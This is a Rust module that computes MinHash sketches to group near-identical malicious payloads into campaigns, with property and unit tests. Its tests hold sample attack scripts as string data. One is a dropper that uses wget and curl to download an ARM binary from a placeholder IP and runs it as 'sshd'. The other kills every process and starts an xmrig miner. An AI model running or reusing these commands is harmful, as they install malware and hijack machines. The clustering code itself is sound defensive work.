//! How alike two contents are, told from 256 bytes of each: a campaign that changes a host, a key or some padding in what it
//! sends is then still one campaign.
//!
//! A content is taken as the set of its runs of five bytes; alike are two sets by what they share over what they have in all
//! (Jaccard). That share is estimated by MinHash (Broder, "On the resemblance and containment of documents", 1997), which is a
//! locality-sensitive hash of sets, in its one-permutation form, one hash a run instead of one a run and a place (Li, Owen,
//! Zhang, "One permutation hashing", NIPS 2012), with places that no run came to filled as Shrivastava does ("Optimal
//! densification for fast and accurate minwise hashing", ICML 2017), and 16 bits kept of each place (Li, König, "b-bit minwise
//! hashing", WWW 2010). The estimate's standard error is at most 0.045. Nothing is decoded, and no byte is compared at a
//! position, so that something put in at the beginning changes little.
//!
//! Whoever wants two contents to look unlike can do so by changing every fifth byte: this finds what is alike, it proves nothing.

/// Bytes in a run.
const RUN: usize = 5;
/// Places of the sketch, a power of two.
const PLACES: usize = 128;
/// The number of bits that tell a place.
const PLACE_BITS: u32 = PLACES.trailing_zeros();
/// Bytes of a content looked at: the cost is the same for every longer one.
pub const LONGEST_COMPARED: usize = 64 * 1024;
/// Shorter contents are not compared: a dozen runs say nothing.
pub const SHORTEST_COMPARED: usize = 24;

/// What is kept of a content to tell how alike another one is.
#[derive(Clone, Copy, PartialEq, Eq)]
pub struct Likeness([u16; PLACES]);

impl Likeness {
    /// Bytes of [`Self::to_bytes`].
    pub const BYTES: usize = 2 * PLACES;

    /// Of a content's first 64 KiB; `None` of one shorter than 24 bytes.
    #[must_use]
    pub fn of(content: &[u8]) -> Option<Self> {
        let content = content.get(..LONGEST_COMPARED).unwrap_or(content);
        if content.len() < SHORTEST_COMPARED {
            return None;
        }
        let mut least = [u32::MAX; PLACES];
        let mut run = 0_u64;
        for (at, byte) in content.iter().enumerate() {
            run = (run << 8 | u64::from(*byte)) & ((1 << (8 * RUN)) - 1);
            if at + 1 < RUN {
                continue;
            }
            let hash = mix(run);
            let place = (hash >> (64 - PLACE_BITS)) as usize;
            // The highest value stands for "none".
            let value = (hash as u32).min(u32::MAX - 1);
            least[place] = least[place].min(value);
        }
        Some(Self(filled(least)))
    }

    /// The estimated share of runs that both contents have, of all that either has: 0 to 1.
    #[must_use]
    pub fn to(&self, other: &Self) -> f64 {
        let same = self.0.iter().zip(&other.0).filter(|(a, b)| a == b).count();
        #[allow(clippy::cast_precision_loss, reason = "at most 128")]
        let share = same as f64 / PLACES as f64;
        share
    }

    /// For keeping.
    #[must_use]
    pub fn to_bytes(&self) -> Vec<u8> {
        self.0.iter().flat_map(|value| value.to_le_bytes()).collect()
    }

    /// Reads what [`Self::to_bytes`] wrote; `None` of another length.
    #[must_use]
    pub fn from_bytes(bytes: &[u8]) -> Option<Self> {
        if bytes.len() != Self::BYTES {
            return None;
        }
        let mut values = [0; PLACES];
        for (value, pair) in values.iter_mut().zip(bytes.chunks_exact(2)) {
            *value = u16::from_le_bytes([pair[0], pair[1]]);
        }
        Some(Self(values))
    }
}

impl std::fmt::Debug for Likeness {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter.write_str("Likeness(")?;
        self.0.iter().take(4).try_for_each(|value| write!(formatter, "{value:04x}"))?;
        formatter.write_str("…)")
    }
}

/// SplitMix64's finaliser (Steele, Lea, Flood, OOPSLA 2014).
const fn mix(run: u64) -> u64 {
    let mut z = run.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// A place that no run came to borrows from another, chosen by the place and the number of the attempt alone, so that two
/// contents that both lack it borrow from the same. At least one place holds something.
fn filled(least: [u32; PLACES]) -> [u16; PLACES] {
    let mut values = [0; PLACES];
    for (place, value) in values.iter_mut().enumerate() {
        let mut from = place;
        // With one place in 128 filled, 4,096 attempts miss it once in 10^14; then the value is that of "none".
        for attempt in 1..=4_096_u64 {
            if least[from] != u32::MAX {
                break;
            }
            from = (mix(place as u64 * 8_191 + attempt) >> (64 - PLACE_BITS)) as usize;
        }
        *value = (least[from] >> 16) as u16 ^ least[from] as u16;
    }
    values
}

/// For fuzzing: any bytes, alike to themselves, and kept and read again the same.
pub fn fuzz(bytes: &[u8]) {
    if let Some(likeness) = Likeness::of(bytes) {
        assert!(likeness.to(&likeness) >= 1.0);
        assert_eq!(Likeness::from_bytes(&likeness.to_bytes()), Some(likeness));
    }
    let _ = Likeness::from_bytes(bytes);
}

#[cfg(test)]
mod tests {
    use std::time::Instant;

    use proptest::prelude::*;

    use super::*;

    fn likeness(a: &[u8], b: &[u8]) -> f64 {
        Likeness::of(a).unwrap().to(&Likeness::of(b).unwrap())
    }

    /// Bytes that look random, the same for a seed.
    fn noise(seed: u64, length: usize) -> Vec<u8> {
        (0..length as u64)
            .map(|at| mix(seed.wrapping_mul(1 << 32).wrapping_add(at)) as u8)
            .collect()
    }

    #[test]
    fn a_script_with_another_host_and_file_is_alike_and_another_script_is_not() {
        let script = |host: &str, file: &str| {
            format!(
                "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /;\nwget http://{host}/bins/{file}.arm7; \
                 curl -O http://{host}/bins/{file}.arm7; cat {file}.arm7 > sshd; chmod +x *; ./sshd telnet.arm7\n"
            )
        };
        let one = script("198.51.100.7", "a8f3c901");
        let two = script("203.0.113.66", "77aa01bc");
        assert!(likeness(one.as_bytes(), two.as_bytes()) > 0.5);
        let other = "#!/bin/bash\nexport PATH=$PATH:/usr/local/sbin\nfor i in $(ps aux | grep -v grep | awk '{print $2}'); do \
                     kill -9 $i; done\nnohup ./xmrig --donate-level 1 -o pool.example:3333 &\n";
        assert!(likeness(one.as_bytes(), other.as_bytes()) < 0.2);
    }

    #[test]
    fn what_is_put_in_front_or_behind_changes_little() {
        let body = noise(1, 4_000);
        let longer = [noise(2, 300), body.clone(), noise(3, 300)].concat();
        assert!(likeness(&body, &longer) > 0.75);
    }

    #[test]
    fn too_short_contents_are_not_compared_and_longer_ones_by_their_beginning() {
        assert!(Likeness::of(&[0; SHORTEST_COMPARED - 1]).is_none());
        assert!(Likeness::of(&[0; SHORTEST_COMPARED]).is_some());
        let beginning = noise(1, LONGEST_COMPARED);
        assert_eq!(
            Likeness::of(&beginning),
            Likeness::of(&[beginning.clone(), noise(2, 99)].concat())
        );
    }

    #[test]
    fn the_longest_content_costs_milliseconds_and_any_longer_one_no_more() {
        let content = noise(7, 64 * LONGEST_COMPARED);
        let started = Instant::now();
        for _ in 0..8 {
            assert!(Likeness::of(&content).is_some());
        }
        // Unoptimised builds need about 3 ms for each; the bound is for a machine that is busy.
        assert!(started.elapsed().as_secs() < 4, "{:?}", started.elapsed());
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn near_copies_are_alike(
            seed in any::<u64>(),
            length in 200_usize..6_000,
            changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..12),
        ) {
            let content = noise(seed, length);
            let mut copy = content.clone();
            for (at, byte) in &changes {
                copy[at.index(length)] = *byte;
            }
            // A changed byte takes five runs from one and adds five to the other.
            let changed = (RUN * changes.len()) as f64;
            let runs = (length - RUN + 1) as f64;
            let exact = (runs - changed) / (runs + changed);
            prop_assert!(likeness(&content, &copy) > exact - 0.25, "{} of {exact}", likeness(&content, &copy));
        }

        #[test]
        fn unrelated_contents_are_not(a in any::<u64>(), b in any::<u64>(), length in 24_usize..6_000) {
            prop_assume!(a != b);
            prop_assert!(likeness(&noise(a, length), &noise(b, length)) < 0.25);
        }

        #[test]
        fn likeness_goes_both_ways_and_survives_keeping(a in prop::collection::vec(any::<u8>(), 24..400), b in prop::collection::vec(any::<u8>(), 24..400)) {
            prop_assert!((likeness(&a, &b) - likeness(&b, &a)).abs() < f64::EPSILON);
            fuzz(&a);
        }
    }
}
